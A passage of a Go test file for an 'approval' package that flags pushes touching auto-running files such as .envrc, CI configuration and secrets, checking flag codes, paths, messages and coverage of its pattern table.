			for _, fl := range approval.Assess(&req, approval.Rules{}, content) {
				runs := fl.Code == approval.FlagAutorun || fl.Code == approval.FlagCI || (fl.Code == approval.FlagSecret && fl.Severity == approval.Medium)
				if runs && (c.code == "" || fl.Code == c.code) {
					got = append(got, fl)
				}
			}
			switch {
			case c.code == "" && len(got) > 0:
				t.Errorf("flagged, but should not be: %+v", got)
			case c.code == "":
			case len(got) != 1:
				t.Errorf("want one %s flag, got %+v", c.code, got)
			case got[0].Code != c.code || got[0].Path != c.path || !strings.Contains(got[0].Message, c.reason) || !strings.Contains(got[0].Message, c.path):
				t.Errorf("got %s %q, want %s naming %s and saying %q", got[0].Code, got[0].Message, c.code, c.path, c.reason)
			}
		})
	}
	// Every row of the table is held to at least one file here: the
	// table cannot grow a row nothing tests.
	for _, p := range approval.RunsPatterns() {
		if !covered[p] {
			t.Errorf("no case tests the row %q", p)
		}
	}
}

// The flag says whether the push adds, changes or deletes the file.
func TestRunsFlagsVerbs(t *testing.T) {
	for _, tc := range []struct {
		op   change.Kind
		want string
	}{{change.Create, "adds .envrc:"}, {change.Update, "changes .envrc:"}, {change.Delete, "deletes .envrc:"}} {
		req := approval.Request{Ref: "refs/heads/f", Files: []approval.FileChange{{Path: ".envrc", Op: tc.op}}}
		flags := approval.Assess(&req, approval.Rules{}, nil)
		if len(flags) == 0 || flags[0].Code != approval.FlagAutorun || !strings.HasPrefix(flags[0].Message, tc.want) {
			t.Errorf("%s: %+v, want first a message starting %q", tc.op, flags, tc.want)
		}
	}
}
